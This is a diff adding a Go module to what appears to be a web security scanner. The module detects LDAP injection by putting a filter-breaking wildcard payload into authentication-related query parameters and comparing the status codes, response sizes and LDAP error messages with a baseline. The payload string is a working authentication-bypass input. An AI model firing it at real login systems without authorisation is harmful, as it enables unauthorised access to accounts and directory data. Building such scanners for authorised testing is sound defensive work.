@@ -0,0 +1,85 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"net/url"
+	"os"
+	"regexp"
+	"strings"
+)
+
+// ldapInjectionPayload closes the filter the value is placed in, adds a
+// wildcard match and opens a new clause for the rest of the filter.
+const ldapInjectionPayload = "*)(uid=*))(|(uid=*"
+
+var ldapErrorRe = regexp.MustCompile(`(?i)javax\.naming\.|LDAPException|com\.sun\.jndi\.ldap|Bad search filter|Invalid DN syntax|ldap_search(?:_ext)?\(\)|Protocol error occurred|LDAP: error code|supplied argument is not a valid ldap`)
+
+// ldapParamNames are parameter names typically used to build LDAP filters
+// for authentication and directory lookups.
+var ldapParamNames = []string{"user", "login", "uid", "cn", "name", "mail", "email", "pass", "pwd", "account", "member", "group", "dn"}
+
+// ldapCandidate reports whether the parameter name looks like it is used
+// in an LDAP filter.
+func ldapCandidate(name string) bool {
+	name = strings.ToLower(name)
+	for _, n := range ldapParamNames {
+		if strings.Contains(name, n) {
+			return true
+		}
+	}
+	return false
+}
+
+// detectLDAPInjection replaces each authentication-related query parameter
+// of r with ldapInjectionPayload, one at a time. It reports parameters that
+// turn a 401 or 403 into a 2xx, that return clearly more data than the
+// baseline, or that cause LDAP errors the baseline didn't contain.
+func detectLDAPInjection(client *http.Client, r request, headers headerArgs, baseStatus int, baseBody []byte) {
+	u, err := url.Parse(r.url)
+	if err != nil {
+		return
+	}
+
+	injected := make(map[string]bool)
+	variants := rewriteParams(u, func(name, value string) string {
+		param, err := url.QueryUnescape(name)
+		if err != nil {
+			param = name
+		}
+		if !ldapCandidate(param) {
+			return value
+		}
+		injected[param] = true
+		return url.QueryEscape(ldapInjectionPayload)
+	})
+
+	baseErrors := ldapErrorRe.Match(baseBody)
+
+	for _, v := range variants {
+		if !injected[v.param] {
+			continue
+		}
+
+		resp, body, err := probe(client, r.method, v.url, r.body, headers)
+		if err != nil {
+			fmt.Fprintf(os.Stderr, "request failed: %s\n", err)
+			continue
+		}
+
+		var evidence string
+		switch {
+		case !baseErrors && ldapErrorRe.Match(body):
+			evidence = "error"
+		case isBlockedStatus(baseStatus) && resp.StatusCode >= 200 && resp.StatusCode < 300:
+			evidence = fmt.Sprintf("%d -> %d", baseStatus, resp.StatusCode)
+		case resp.StatusCode == baseStatus && len(body) > len(baseBody) &&
+			responsesDiffer(baseStatus, baseBody, resp.StatusCode, body):
+			evidence = "more data"
+		}
+
+		if evidence != "" {
+			fmt.Printf("LDAP-INJECTION-POSSIBLE:%s %s (%s)\n", v.param, r.url, evidence)
+		}
+	}
+}